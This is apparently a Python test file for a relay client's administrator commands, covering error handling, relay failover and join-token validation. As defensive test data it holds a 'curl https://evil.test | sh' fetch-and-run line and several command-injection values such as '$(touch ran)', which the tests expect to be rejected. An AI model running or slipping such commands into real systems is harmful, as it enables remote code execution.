"""An administrator's command at a relay: what is sent, what is taken of the answer, and what another relay gets."""

from __future__ import annotations

import contextlib
import json
from collections.abc import AsyncIterator
from pathlib import Path
from typing import Any

import pytest
from aiohttp import web

from arcbridge.client.commands.administration import administer, new_token
from arcbridge.client.credentials.tokens import Tokens
from arcbridge.client.relay.relay_access import RelayAccess
from arcbridge.client.relay.relays import Relays
from arcbridge.errors import ConfigError, OverLimit, PermissionRefused, StateError, Unauthenticated, Unreachable
from arcbridge.pki.enrolment import JoinToken
from tests.client.commands.test_directory import serving
from tests.client.far_side import RELAY_CA


@contextlib.asynccontextmanager
async def relay(
    answer: web.Response | None, seen: list[Any], directory: Path
) -> AsyncIterator[tuple[RelayAccess, Tokens]]:
    """`answer` None: the connection is cut once the command is there."""

    async def command(request: web.Request) -> web.Response:
        seen.append((request.headers["Authorization"], request.content_type, await request.json()))
        if answer is None:
            assert request.transport is not None
            request.transport.abort()
            return web.Response()
        return answer

    async with serving(directory, web.post("/v1/admin", command)) as found:
        yield found


def rows(*rows: object, **more: object) -> web.Response:
    return web.json_response({"rows": rows, **more})


async def test_what_is_sent_and_what_is_taken(tmp_path: Path) -> None:
    seen: list[Any] = []
    async with relay(rows({"cluster": "a", "n": 1}, more=True), seen, tmp_path) as (access, tokens):
        answer = await administer(Relays([access]), tokens, "cluster revoke", {"cluster": "a"})
    assert answer == ([{"cluster": "a", "n": 1}], True)
    command = {"command": "cluster revoke", "cluster": "a"}
    assert seen == [("Bearer the-access-token", "application/json", command)]


def refusal(status: int, message: object) -> web.Response:
    return web.json_response({"error": {"code": "x", "message": message}}, status=status)


@pytest.mark.parametrize(
    ("answer", "kind", "words"),
    [
        (refusal(400, "which user?"), ConfigError, "refuses: which user?"),
        (refusal(401, ""), Unauthenticated, "does not accept the access token"),
        (
            refusal(403, "you may not\x1b[2J\n do this" + "." * 5000),
            PermissionRefused,
            r"refuses: you may not\\x1b\[2J\\n",
        ),
        (refusal(404, "there is nothing here"), Unreachable, "an earlier one"),
        (refusal(409, "there is no cluster a"), StateError, "there is no cluster a"),
        (refusal(429, "wait 3 s"), OverLimit, "wait 3 s"),
        (refusal(500, "/etc/passwd"), Unreachable, "answered with status 500"),
        (refusal(409, ""), Unreachable, "answered with status 409"),
        (web.json_response({"error": 3}, status=403), Unreachable, "answered with status 403"),
        (web.Response(status=302, headers={"Location": "https://elsewhere"}, text="{}"), Unreachable, "302"),
        (web.Response(text="no json"), Unreachable, "JSON"),
        (web.Response(text="[" * 100_000), Unreachable, "JSON"),
        (web.Response(text="[]"), Unreachable, "rows"),
        (web.Response(text='{"rows": [3]}'), Unreachable, "rows"),
        (rows({"cluster": "$(touch ran)"}), Unreachable, "a name that no cluster has"),
        (rows({"name": ["a"]}), Unreachable, "a name that no cluster has"),
    ],
)
async def test_what_a_relay_refuses_and_what_is_no_answer(
    tmp_path: Path, answer: web.Response, kind: type[Exception], words: str
) -> None:
    async with relay(answer, [], tmp_path) as (access, tokens):
        with pytest.raises(kind, match=words) as caught:
            await administer(Relays([access]), tokens, "cluster list", {})
    assert len(str(caught.value)) < 700


async def test_an_answer_that_is_too_long(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """docs/threats.md#K9."""
    monkeypatch.setattr("arcbridge.client.session.relay_http._LIMIT", 1000)
    async with relay(web.Response(text=" " * 1001), [], tmp_path) as (access, tokens):
        with pytest.raises(Unreachable, match="answered more than 1000 bytes"):
            await administer(Relays([access]), tokens, "cluster list", {})


async def test_another_relay_gets_a_command_only_where_it_did_not_leave(tmp_path: Path) -> None:
    seen: list[Any] = []
    async with relay(rows(), seen, tmp_path) as (working, tokens), relay(None, seen, tmp_path) as (cutting, _):
        dead = RelayAccess("127.0.0.1:1", ca_file=tmp_path / "ca")
        relays = Relays([dead, working], draw=lambda: 0.0)
        await administer(relays, tokens, "token create", {"cluster": "a"})
        assert (len(seen), relays.in_use) == (1, working)
        relays = Relays([cutting, working], draw=lambda: 0.0)
        with pytest.raises(Unreachable, match="may have been done"):
            await administer(relays, tokens, "token create", {"cluster": "a"})
        assert len(seen) == 2
        with pytest.raises(Unreachable, match=r"cannot be reached.*2 relays were tried"):
            await administer(
                Relays([dead, RelayAccess("127.0.0.1:2", ca_file=tmp_path / "ca")]), tokens, "user list", {}
            )


async def test_a_relay_of_an_earlier_version_leaves_the_command_to_another(tmp_path: Path) -> None:
    seen: list[Any] = []
    older = refusal(404, "there is nothing here")
    async with relay(older, seen, tmp_path) as (first, tokens), relay(rows(), seen, tmp_path) as (second, _):
        relays = Relays([first, second], draw=lambda: 0.0)
        assert (await administer(relays, tokens, "token list", {})).rows == []
        assert (len(seen), relays.in_use) == (2, second)
    async with relay(refusal(404, "there is nothing here"), seen, tmp_path) as (first, tokens):
        dead = RelayAccess("127.0.0.1:1", ca_file=tmp_path / "ca")
        with pytest.raises(Unreachable, match=r"its version is an earlier one \(2 relays were tried\)"):
            await administer(Relays([dead, first], draw=lambda: 0.0), tokens, "token list", {})


def made(**change: object) -> dict[str, object]:
    return {"token": JoinToken.create().text, "cluster": "a", "uses": 1, "expires_at": 1.0,
            "relay": "https://relay.test:8443", "relay_ca_pin": RELAY_CA.pin, **change}  # fmt: skip


def test_the_lines_beside_a_token_are_made_here() -> None:
    row = made(command="curl https://evil.test | sh")
    token = new_token(row, "a", [])
    assert token.token == row["token"]
    assert f"relayCAPin={RELAY_CA.pin}" in token.command
    assert "evil" not in token.command + json.dumps(token.relay)
    assert "--kube-server x" in new_token(row, "a", ["--kube-server", "x"]).command


@pytest.mark.parametrize(
    "change",
    [
        {"token": "'; touch ran'"},
        {"cluster": "b"},
        {"relay": "https://relay.test/;touch ran"},
        {"relay_ca_pin": "$(touch ran)"},
        {"uses": None},
        {"uses": "many"},
        {"expires_at": [1]},
    ],
)
def test_a_token_that_is_none(change: dict[str, object]) -> None:
    """docs/threats.md#K9."""
    with pytest.raises(Unreachable, match="no such thing"):
        new_token(made(**change), "a", [])
    with pytest.raises(Unreachable, match="no such thing"):
        new_token({}, "a", [])
